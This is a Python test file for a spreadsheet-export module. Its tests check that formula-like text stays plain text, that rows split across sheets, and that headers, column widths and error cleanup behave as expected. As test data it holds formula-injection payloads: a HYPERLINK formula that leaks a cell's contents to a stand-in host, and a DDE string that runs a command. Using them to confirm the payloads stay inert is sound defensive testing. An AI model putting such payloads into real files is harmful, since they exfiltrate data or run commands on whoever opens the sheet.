"""Workbooks for spreadsheet users: text stays text (never a formula), sheets split at the
row limit, a frozen header and sized columns."""

from __future__ import annotations

import gc
import io
import os
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet._writer import ALL_TEMP_FILES

from incubator import workbook
from incubator.workbook import MAX_CELL, TRUNCATED, Sheet, workbook_bytes, write_rows

#: Values a spreadsheet would run as formulas if they were written as they are typed.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
    "\t=1+1",
    "=",
]


def read(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))


def sheet_xml(data: bytes, n: int = 1) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(f"xl/worksheets/sheet{n}.xml").decode("utf-8")


def test_formula_looking_text_is_written_as_text_cells() -> None:
    data = workbook_bytes([Sheet("t", ["value"], [(v,) for v in HOSTILE])])
    sheet = read(data).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for c in cells} == {"s"}
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    assert 't="inlineStr"' in xml


def test_text_that_looks_like_an_error_code_or_a_boolean_stays_text() -> None:
    values = ["#N/A", "#DIV/0!", "TRUE", "1e5"]
    data = workbook_bytes([Sheet("t", ["value"], [(v,) for v in values])])
    cells = [row[0] for row in read(data).active.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [(v, "s") for v in values]


def test_numbers_stay_numbers_and_text_that_looks_like_a_number_stays_text() -> None:
    row = (42, 2.5, "0042", 2**60, Decimal("1.25"), float("nan"), True)
    data = workbook_bytes([Sheet("t", list("abcdefg"), [row])])
    a, b, c, d, e, f, g = next(read(data).active.iter_rows(min_row=2))
    assert (a.value, a.data_type) == (42, "n")
    assert (b.value, b.data_type) == (2.5, "n")
    assert (c.value, c.data_type) == ("0042", "s")  # a key keeps its leading zeros
    assert (d.value, d.data_type) == (str(2**60), "s")  # beyond a double's exact integers
    assert (e.value, e.data_type) == (1.25, "n")
    assert (f.value, f.data_type) == ("nan", "s")  # a cell holds no NaN
    assert (g.value, g.data_type) == (True, "b")


def test_chinese_text_and_line_breaks_are_kept() -> None:
    note = "第一行\n第二行\t制表"
    data = workbook_bytes([Sheet("t", ["名称", "备注"], [("荆门智造科技有限公司", note)])])
    sheet = read(data).active
    assert [c.value for c in sheet[1]] == ["名称", "备注"]
    assert [c.value for c in sheet[2]] == ["荆门智造科技有限公司", note]


def test_dates_and_times_are_iso_text() -> None:
    moment = datetime(2024, 7, 1, 9, 30, tzinfo=UTC)
    data = workbook_bytes([Sheet("t", ["at", "day"], [(moment, date(2024, 7, 1))])])
    at, day = next(read(data).active.iter_rows(min_row=2))
    assert (at.value, at.data_type) == ("2024-07-01T09:30:00+00:00", "s")
    assert day.value == "2024-07-01"


def test_characters_a_worksheet_cannot_hold_show_as_replacement_characters() -> None:
    data = workbook_bytes([Sheet("t", ["note"], [("a\x00b\x1bc\x7fd",)])])
    assert read(data).active["A2"].value == "a\ufffdb\ufffdc\x7fd"


def test_text_longer_than_a_cell_holds_is_cut_with_a_marker() -> None:
    data = workbook_bytes([Sheet("t", ["note"], [("x" * (MAX_CELL + 10),)])])
    value = read(data).active["A2"].value
    assert len(value) == MAX_CELL and value.endswith(TRUNCATED)


def test_none_is_an_empty_cell() -> None:
    data = workbook_bytes([Sheet("t", ["a", "b"], [(None, "x")])])
    assert [c.value for c in read(data).active[2]] == [None, "x"]


def test_the_header_is_bold_frozen_and_filtered_and_columns_fit_their_text() -> None:
    rows = [("JM-0001", "钟祥绿野生物医药有限公司", "n" * 500)]
    data = workbook_bytes([Sheet("events", ["company_key", "company_name", "note"], rows)])
    sheet = read(data).active
    assert sheet.title == "events"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C2"
    assert all(c.font.bold for c in sheet[1])
    key, name, note = (sheet.column_dimensions[c].width for c in "ABC")
    assert key == len("company_key") + 2
    assert name == 2 * len("钟祥绿野生物医药有限公司") + 2  # wide characters count double
    assert note == workbook.MAX_WIDTH


def test_rows_beyond_a_sheet_continue_on_further_sheets_with_the_header() -> None:
    out = io.BytesIO()
    n = write_rows(out, [Sheet("events", ["i"], ((i,) for i in range(7)))], max_rows=4)
    assert n == 7
    book = read(out.getvalue())
    assert book.sheetnames == ["events", "events 2", "events 3"]
    assert [[c.value for c in row] for row in book["events"].iter_rows()] == [
        ["i"], [0], [1], [2]
    ]  # fmt: skip
    assert [r[0].value for r in book["events 3"].iter_rows()] == ["i", 6]


def test_exactly_a_full_sheet_needs_no_second_sheet() -> None:
    out = io.BytesIO()
    write_rows(out, [Sheet("events", ["i"], ((i,) for i in range(3)))], max_rows=4)
    assert read(out.getvalue()).sheetnames == ["events"]


def test_an_empty_table_still_has_its_header() -> None:
    sheet = read(workbook_bytes([Sheet("empty", ["a", "b"], [])])).active
    assert [c.value for c in sheet[1]] == ["a", "b"] and sheet.max_row == 1


def test_sheet_titles_are_ones_excel_accepts_and_unique() -> None:
    taken: set[str] = set()
    assert workbook.sheet_title("a/b:c?", taken) == "a_b_c_"
    long = "x" * 40
    assert workbook.sheet_title(long, taken) == "x" * 31
    assert workbook.sheet_title(long, taken) == "x" * 29 + " 2"


def test_saving_is_reported_to_the_progress_callback() -> None:
    heard: list[tuple[str, int, int]] = []
    write_rows(io.BytesIO(), [Sheet("t", ["a"], [("x",)])], progress=lambda *a: heard.append(a))
    assert heard == [("saving", 0, 1), ("saving", 1, 1)]


def openpyxl_temporary_files() -> list[str]:
    return [path for path in ALL_TEMP_FILES if os.path.exists(path)]


def test_a_failing_row_source_propagates_its_error_and_leaves_no_temporary_file() -> None:
    before = openpyxl_temporary_files()

    def rows() -> Any:
        yield ("a",)
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match="No space left"):
        write_rows(io.BytesIO(), [Sheet("t", ["a"], [("x",)]), Sheet("u", ["a"], rows())])
    gc.collect()  # nothing left for the collector to finish (pytest reports what it would)
    assert openpyxl_temporary_files() == before


class FullDisk(io.BytesIO):
    """An output that fills up after a few kilobytes."""

    def write(self, data: Any) -> int:
        if self.tell() + len(data) > 4_000:
            raise OSError(28, "No space left on device")
        return super().write(data)


def test_a_full_disk_while_packing_propagates_its_error_and_leaves_no_temporary_file() -> None:
    before = openpyxl_temporary_files()
    rows = [(f"JM-{i:04d}", "荆门" * i) for i in range(300)]
    with pytest.raises(OSError, match="No space left"):
        write_rows(FullDisk(), [Sheet("t", ["key", "name"], rows)])
    gc.collect()
    assert openpyxl_temporary_files() == before
